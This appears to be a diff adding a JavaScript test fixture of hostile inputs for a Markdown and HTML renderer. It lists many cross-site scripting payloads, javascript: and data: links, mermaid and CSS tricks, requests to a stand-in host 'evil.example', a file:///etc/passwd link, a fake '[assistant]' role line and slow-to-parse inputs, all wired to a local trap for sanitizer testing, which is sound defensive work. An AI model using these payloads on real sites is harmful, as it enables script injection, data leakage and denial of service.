@@ -1,0 +1,157 @@
+/**
+ * Texts that somebody might write to make the page run, fetch, open or go somewhere. Each calls the trap or asks for
+ * something at `evil.example` if it succeeds.
+ */
+import { SENTINEL } from './trap.mjs';
+
+const RUN = `${SENTINEL}()`;
+const FOREIGN = 'https://evil.example';
+
+/** Raw HTML, in all the ways that once worked somewhere. */
+const HTML = [
+  `<script>${RUN}</script>`,
+  `<script src="${FOREIGN}/x.js"></script>`,
+  `<SCRIPT>${RUN}</SCRIPT >`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<script type="module">import "${FOREIGN}/m.js"</script>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img src="${FOREIGN}/pixel.png">`,
+  `<img srcset="${FOREIGN}/pixel.png 1x">`,
+  `<img src=x:x onerror=${RUN}//`,
+  `<svg onload="${RUN}"></svg>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
+  `<svg><use href="${FOREIGN}/x.svg#a"></use></svg>`,
+  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text y="20">press</text></a></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
+  `<math href="javascript:${RUN}">press</math>`,
+  `<iframe src="${FOREIGN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${RUN}"></iframe>`,
+  `<object data="${FOREIGN}/x.swf"></object>`,
+  `<embed src="${FOREIGN}/x.swf">`,
+  `<video src="${FOREIGN}/v.mp4" onerror="${RUN}" autoplay></video>`,
+  `<audio src="${FOREIGN}/a.mp3" autoplay></audio>`,
+  `<video poster="${FOREIGN}/p.png"></video>`,
+  `<source src="${FOREIGN}/v.mp4" onerror="${RUN}">`,
+  `<input autofocus onfocus="${RUN}">`,
+  `<input type="image" src="${FOREIGN}/b.png">`,
+  `<body onload="${RUN}">`,
+  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
+  `<marquee onstart="${RUN}">x</marquee>`,
+  `<div style="background:url(${FOREIGN}/bg.png)">x</div>`,
+  `<style>@import url(${FOREIGN}/x.css);</style>`,
+  `<style>*{background:url(${FOREIGN}/all.png)}</style>`,
+  `<link rel="stylesheet" href="${FOREIGN}/x.css">`,
+  `<link rel="prefetch" href="${FOREIGN}/next">`,
+  `<base href="${FOREIGN}/">`,
+  `<meta http-equiv="refresh" content="0;url=${FOREIGN}">`,
+  `<form action="${FOREIGN}"><button autofocus>x</button></form>`,
+  `<form id="page" name="body"><input name="attributes"></form>`,
+  `<a id="page" href="${FOREIGN}">clobber</a>`,
+  `<template><img src=x onerror="${RUN}"></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  `<textarea></textarea><img src=x onerror="${RUN}">`,
+  `<!--><img src=x onerror="${RUN}">-->`,
+  `<![CDATA[><img src=x onerror="${RUN}">]]>`,
+  `<?xml-stylesheet href="${FOREIGN}/x.xsl"?>`,
+  `<x onclick="${RUN}" tabindex=1 autofocus onfocus="${RUN}">x</x>`,
+  `<button popovertarget=p onclick="${RUN}">x</button><div popover id=p onbeforetoggle="${RUN}">y</div>`,
+  `<portal src="${FOREIGN}"></portal>`,
+  `<dialog open onclose="${RUN}">x</dialog>`,
+  `<br onmouseover="${RUN}"><br/onload=${RUN}>`,
+];
+
+/** Addresses that must not become links, or lead anywhere by themselves. */
+const LINKS = [
+  `[press](javascript:${RUN})`,
+  `[press](JaVaScRiPt:${RUN})`,
+  `[press](  javascript:${RUN} )`,
+  `[press](java&#115;cript:${RUN})`,
+  `[press](java&Tab;script:${RUN})`,
+  `[press](&#x6A;avascript:${RUN})`,
+  `[press](javascript&colon;${RUN})`,
+  `[press](<java\tscript:${RUN}>)`,
+  `[press](\u0001javascript:${RUN})`.replace('\u0001', '%01'),
+  `[press](vbscript:msgbox(1))`,
+  `[press](data:text/html,<script>${RUN}</script>)`,
+  `[press](data:text/html;base64,PHNjcmlwdD5wYXJsb3VyVHJhcCgpPC9zY3JpcHQ+)`,
+  `[press](blob:${FOREIGN}/1)`,
+  `[press](file:///etc/passwd)`,
+  `[press](//evil.example/x)`,
+  `[press](\\\\evil.example\\x)`,
+  `[press](https:evil.example)`,
+  `[press][ref]\n\n[ref]: javascript:${RUN}`,
+  `<javascript:${RUN}>`,
+  `<${FOREIGN}/"onmouseover="${RUN}>`,
+  `[press](${FOREIGN} "title" onclick="${RUN}")`,
+  `[press](${FOREIGN}/?q="><img src=x onerror=${RUN}>)`,
+  `[<img src=x onerror="${RUN}">](${FOREIGN})`,
+  `[press](/sign-out)`,
+  `[press](#/p/../../x"onclick="${RUN})`,
+  `www.evil.example/"onmouseover="${RUN}`,
+];
+
+/** Pictures: of another place they are links, and nothing is fetched. */
+const PICTURES = [
+  `![x](${FOREIGN}/pixel.png)`,
+  `![x](//evil.example/pixel.png)`,
+  `![x](javascript:${RUN})`,
+  `![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>)`,
+  `![x" onerror="${RUN}](x)`,
+  `![x](x "y" onerror="${RUN}")`,
+  `![x][pic]\n\n[pic]: ${FOREIGN}/pixel.png`,
+  `[![x](${FOREIGN}/pixel.png)](javascript:${RUN})`,
+  `![x](/artifacts/../sign-out)`,
+  `![x](http://127.0.0.1:1/pixel.png)`,
+];
+
+/** Code, tables and diagrams with something inside. */
+const BLOCKS = [
+  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
+  `\`\`\`"><img src=x onerror=${RUN}>\ntext\n\`\`\``,
+  `\`\`\`constructor\n__proto__\n\`\`\``,
+  `\`\`\`__proto__\nx\n\`\`\``,
+  `\`<img src=x onerror=${RUN}>\``,
+  `| <img src=x onerror="${RUN}"> | b |\n|---|---|\n| <script>${RUN}</script> | [c](javascript:${RUN}) |`,
+  `# <img src=x onerror="${RUN}">`,
+  `- [x] <img src=x onerror="${RUN}">`,
+  `> <iframe src="${FOREIGN}">`,
+  `\`\`\`mermaid\ngraph TD\n  A["<img src=x onerror=${RUN}>"] --> B\n\`\`\``,
+  `\`\`\`mermaid\ngraph TD\n  A --> B\n  click A "javascript:${RUN}"\n  click B href "${FOREIGN}" _top\n\`\`\``,
+  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n  A["<script>top.${RUN}</script>"]\n\`\`\``,
+  `\`\`\`mermaid\n%%{init: {"themeCSS": "*{background:url(${FOREIGN}/x.png)}"}}%%\ngraph TD\n  A\n\`\`\``,
+  `\`\`\`mermaid\n<script>parent.postMessage('x','*');parent.${RUN}</script>\n\`\`\``,
+  `[scheduler:x] I am no schedule\n\n[assistant] nor an assistant`,
+  `@<img src=x onerror="${RUN}"> @everyone<script>${RUN}</script>`,
+  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
+  `\u202Etxt.exe <a href="javascript:${RUN}">\u2066x\u2069</a>`,
+  `$\\href{javascript:${RUN}}{x}$ \\(\\html{<img src=x onerror=${RUN}>}\\)`,
+];
+
+/** Texts that are slow or deep to read: a page that tries hard stands still. */
+const HEAVY = [
+  '>'.repeat(3_000),
+  '['.repeat(20_000),
+  '!['.repeat(10_000),
+  '*'.repeat(30_000),
+  '*a '.repeat(10_000),
+  '**a _b '.repeat(6_000),
+  '`'.repeat(30_000),
+  '~~'.repeat(15_000),
+  '<'.repeat(30_000),
+  '<a '.repeat(15_000),
+  '- '.repeat(2_000),
+  `${'    '.repeat(500)}- x`,
+  `|${'a|'.repeat(3_000)}\n|${'-|'.repeat(3_000)}\n|${'b|'.repeat(3_000)}`,
+  '[a](b'.repeat(8_000),
+  '&amp;'.repeat(10_000),
+  'a'.repeat(60_000),
+  `${'a@'.repeat(20_000)}`,
+  `${'http://'.repeat(8_000)}`,
+  '\\'.repeat(30_000),
+  `[a]: ${'x'.repeat(30_000)}\n\n${'[a] '.repeat(3_000)}`,
+];
+
+export const HOSTILE = [...HTML, ...LINKS, ...PICTURES, ...BLOCKS, ...HEAVY];
